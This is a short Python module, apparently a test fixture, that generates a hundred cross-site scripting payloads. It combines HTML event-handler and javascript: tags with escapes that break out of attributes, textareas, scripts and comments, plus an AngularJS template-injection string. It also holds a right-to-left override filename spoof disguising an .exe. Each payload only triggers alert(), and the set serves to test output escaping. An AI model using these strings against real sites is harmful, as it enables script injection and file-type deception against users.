"""Texts that would do something where they are not shown as mere texts."""

from collections.abc import Iterator

TAGS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg/onload={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<a href='javascript:{}'>x</a>",
    "<input autofocus onfocus={}>",
    "<form action='javascript:{}'><button autofocus>x</button></form>",
)
ESCAPES = (
    "{}",
    '"><x>{}',
    "'><x>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "</style>{}",
    "-->{}",
    "]]>{}",
    "{{{{constructor.constructor('alert(1)')()}}}}{}",
)
BIDI = "\u202e\u2066gpj.exe\u2069\u202c"
LONG = "W" * 300
ENDLESS = "word " * 2_000


def payloads() -> Iterator[str]:
    """Yield a hundred texts, each of which would open a dialog."""
    for number, escape in enumerate(ESCAPES):
        for turn, tag in enumerate(TAGS):
            yield escape.format(tag.format(f"alert({number}{turn})"))
